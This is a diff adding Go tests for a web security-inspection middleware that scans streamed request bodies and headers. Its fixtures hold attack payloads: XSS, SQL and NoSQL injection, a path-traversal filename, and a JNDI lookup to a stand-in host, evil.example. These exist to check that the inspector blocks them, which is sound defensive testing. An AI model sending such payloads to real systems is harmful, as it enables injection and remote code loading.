@@ -0,0 +1,245 @@
+package middleware
+
+import (
+	"errors"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"net/http/httputil"
+	"net/url"
+	"strings"
+	"sync/atomic"
+	"testing"
+)
+
+func TestBodyScanner(t *testing.T) {
+	body := strings.Repeat("lorem ipsum dolor sit amet ", 20000) // ~540 KB, several windows
+	var windows int
+	s := newBodyScanner(io.NopCloser(strings.NewReader(body)), &rawSplitter{}, func(_ []byte, fields []field) error {
+		windows++
+		for _, f := range fields {
+			if len(f.value) > streamOverlap+streamWindow {
+				t.Errorf("window of %d bytes", len(f.value))
+			}
+		}
+		return nil
+	}, func(error) {})
+	got, err := io.ReadAll(s)
+	if err != nil || string(got) != body {
+		t.Fatalf("body changed in transit: %d of %d bytes, %v", len(got), len(body), err)
+	}
+	if want := len(body)/streamWindow + 1; windows != want {
+		t.Errorf("expected %d windows, got %d", want, windows)
+	}
+
+	// A payload across a window boundary is seen, and nothing past the
+	// window holding it gets through.
+	attack := "<script>alert(1)</script>"
+	body = strings.Repeat("a", streamWindow-10) + attack + strings.Repeat("b", 3*streamWindow)
+	s = newBodyScanner(io.NopCloser(strings.NewReader(body)), &rawSplitter{}, func(_ []byte, fields []field) error {
+		for _, f := range fields {
+			if strings.Contains(f.value, attack) {
+				return errStreamBlocked
+			}
+		}
+		return nil
+	}, func(error) {})
+	got, err = io.ReadAll(s)
+	if !errors.Is(err, errStreamBlocked) {
+		t.Fatalf("expected the read to fail, got %v", err)
+	}
+	if len(got) != streamWindow {
+		t.Errorf("expected only the first window through, got %d bytes", len(got))
+	}
+}
+
+// splitAll feeds body to a splitter in small chunks and collects the
+// finished fields as "target:value".
+func splitAll(s splitter, body string, chunk int) []string {
+	var fields []field
+	for len(body) > 0 {
+		n := min(chunk, len(body))
+		fields = append(fields, s.feed([]byte(body[:n]))...)
+		body = body[n:]
+	}
+	fields = append(fields, s.end()...)
+	var out []string
+	for _, f := range fields {
+		out = append(out, f.target+":"+f.value)
+	}
+	return out
+}
+
+func TestSplitters(t *testing.T) {
+	tests := []struct {
+		name  string
+		split func() splitter
+		body  string
+		want  string
+	}{
+		{"json", func() splitter { return &jsonSplitter{} },
+			`{"user": "ada", "tags": ["a\"b", "\u0027 OR 1=1"], "n": 1}` + "\n" + `{"$ne": null}`,
+			`keys:user body:ada keys:tags body:a"b body:' OR 1=1 keys:n keys:$ne`},
+		{"form", func() splitter { return &formSplitter{} },
+			`user=ada&password%5B%24ne%5D=x&q=1%27+OR+1%3D1&flag`,
+			`keys:user body:ada keys:password[$ne] body:x keys:q body:1' OR 1=1 keys:flag`},
+		{"multipart", func() splitter { return newMultipartSplitter("XyZ") },
+			"preamble\r\n--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHello --XyZ-ish\r\n" +
+				"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../a.php\"\r\nContent-Type: image/png\r\n\r\n' OR 1=1\r\n" +
+				"--XyZ--\r\nepilogue",
+			`keys:title body:Hello --XyZ-ish keys:file body:../../a.php`},
+	}
+	for _, tt := range tests {
+		for _, chunk := range []int{1, 3, 7, 1 << 20} {
+			if got := strings.Join(splitAll(tt.split(), tt.body, chunk), " "); got != tt.want {
+				t.Errorf("%s in chunks of %d:\n got %s\nwant %s", tt.name, chunk, got, tt.want)
+			}
+		}
+	}
+}
+
+// streamBackend counts the bodies it received completely.
+func streamBackend(t *testing.T) (*httptest.Server, *atomic.Int32) {
+	var complete atomic.Int32
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		n, err := io.Copy(io.Discard, r.Body)
+		if err == nil && n == r.ContentLength || err == nil && r.ContentLength == -1 {
+			complete.Add(1)
+		}
+		io.WriteString(w, "ok")
+	}))
+	t.Cleanup(srv.Close)
+	return srv, &complete
+}
+
+func TestStreamedInspection(t *testing.T) {
+	backend, complete := streamBackend(t)
+	target, _ := url.Parse(backend.URL)
+	proxy := httputil.NewSingleHostReverseProxy(target)
+	proxy.ErrorLog = nil
+
+	filler := strings.Repeat(`{"note": "nothing to see here"}`+"\n", 8000) // ~250 KB of NDJSON
+	attack := `{"q": "1' UNION SELECT password FROM users--"}` + "\n"
+
+	tests := []struct {
+		name      string
+		mode      string
+		body      string
+		chunked   bool
+		want      int
+		delivered bool
+	}{
+		{"large benign", ModeBlock, filler, false, 200, true},
+		{"attack at the end", ModeBlock, filler + attack, false, 403, false},
+		{"attack in the middle", ModeBlock, filler[:120000] + attack + filler, false, 403, false},
+		{"chunked attack", ModeBlock, filler + attack + filler, true, 403, false},
+		{"monitor", ModeMonitor, filler + attack, false, 200, true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			before := complete.Load()
+			si := NewSecurityInspector(InspectorOptions{Rules: DefaultRules(), Mode: tt.mode, InspectBodySize: 64 << 10})
+			handler := si.Middleware(proxy)
+
+			var body io.Reader = strings.NewReader(tt.body)
+			if tt.chunked {
+				body = io.MultiReader(body) // Hides the length
+			}
+			req := httptest.NewRequest("POST", "/ingest", body)
+			req.Header.Set("Content-Type", "application/x-ndjson")
+			rr := httptest.NewRecorder()
+			handler.ServeHTTP(rr, req)
+
+			if rr.Code != tt.want {
+				t.Errorf("expected %d, got %d: %s", tt.want, rr.Code, rr.Body.String())
+			}
+			if got := complete.Load() > before; got != tt.delivered {
+				t.Errorf("expected delivered=%v, got %v", tt.delivered, got)
+			}
+		})
+	}
+}
+
+func TestStreamedInspectionLimits(t *testing.T) {
+	echo := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, err := io.ReadAll(r.Body)
+		if err != nil {
+			http.Error(w, "Bad Gateway", http.StatusBadGateway)
+			return
+		}
+		w.Write(body)
+	})
+	si := NewSecurityInspector(InspectorOptions{Rules: DefaultRules(), InspectBodySize: 1024})
+
+	// Over max_body_size while streaming: 413, not the backend's error.
+	h := BodyLimit(100000)(si.Middleware(echo))
+	req := httptest.NewRequest("POST", "/upload", io.MultiReader(strings.NewReader(strings.Repeat("x", 200000))))
+	rr := httptest.NewRecorder()
+	h.ServeHTTP(rr, req)
+	if rr.Code != http.StatusRequestEntityTooLarge {
+		t.Errorf("expected 413, got %d", rr.Code)
+	}
+
+	// Headers are still inspected before the body starts flowing.
+	req = httptest.NewRequest("POST", "/upload", strings.NewReader(strings.Repeat("x", 4096)))
+	req.Header.Set("User-Agent", "${jndi:ldap://evil.example/a}")
+	rr = httptest.NewRecorder()
+	si.Middleware(echo).ServeHTTP(rr, req)
+	if rr.Code != http.StatusForbidden {
+		t.Errorf("expected 403 for the header, got %d", rr.Code)
+	}
+
+	// Small bodies are still parsed: a JSON key is only a key when parsed.
+	req = httptest.NewRequest("POST", "/login", strings.NewReader(`{"password": {"$ne": null}}`))
+	req.Header.Set("Content-Type", "application/json")
+	rr = httptest.NewRecorder()
+	si.Middleware(echo).ServeHTTP(rr, req)
+	if rr.Code != http.StatusForbidden {
+		t.Errorf("expected 403 for a buffered body, got %d", rr.Code)
+	}
+
+	// Past max_inspect_size the body passes unchecked; before it, it doesn't.
+	capped := NewSecurityInspector(InspectorOptions{Rules: DefaultRules(), InspectBodySize: 1024, MaxInspectSize: 2 * streamWindow})
+	attack := "1' UNION SELECT password FROM users--"
+	for _, tt := range []struct {
+		offset int
+		want   int
+	}{
+		{streamWindow, http.StatusForbidden},
+		{4 * streamWindow, http.StatusOK},
+	} {
+		body := strings.Repeat("x", tt.offset) + attack + strings.Repeat("x", streamWindow)
+		rr = httptest.NewRecorder()
+		capped.Middleware(echo).ServeHTTP(rr, httptest.NewRequest("POST", "/upload", strings.NewReader(body)))
+		if rr.Code != tt.want {
+			t.Errorf("attack at %d with a %d byte cap: expected %d, got %d", tt.offset, 2*streamWindow, tt.want, rr.Code)
+		}
+	}
+}
+
+// ordinaryText is prose with the punctuation, numbers and keywords real
+// documents have, none of it an attack.
+const ordinaryText = "The quarterly report is attached. Revenue grew 4.5% to $1,200 per unit in Q3, " +
+	"and the team shipped 12 of the 15 planned features (see section 7.2, \"Roadmap\", for the rest). " +
+	"Please review the figures by Friday; questions go to support@example.com or 555-0100, Mon-Fri 9am-5pm.\n"
+
+func BenchmarkStreamedBody(b *testing.B) {
+	body := strings.Repeat(ordinaryText, (8<<20)/len(ordinaryText))
+	discard := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.Copy(io.Discard, r.Body) })
+
+	for _, paranoia := range []int{1, 2} {
+		si := NewSecurityInspector(InspectorOptions{Rules: DefaultRules(), ParanoiaLevel: paranoia})
+		h := si.Middleware(discard)
+		b.Run(fmt.Sprintf("paranoia=%d", paranoia), func(b *testing.B) {
+			b.SetBytes(int64(len(body)))
+			for b.Loop() {
+				rr := httptest.NewRecorder()
+				h.ServeHTTP(rr, httptest.NewRequest(http.MethodPost, "/upload", strings.NewReader(body)))
+				if rr.Code != http.StatusOK {
+					b.Fatalf("expected 200, got %d", rr.Code)
+				}
+			}
+		})
+	}
+}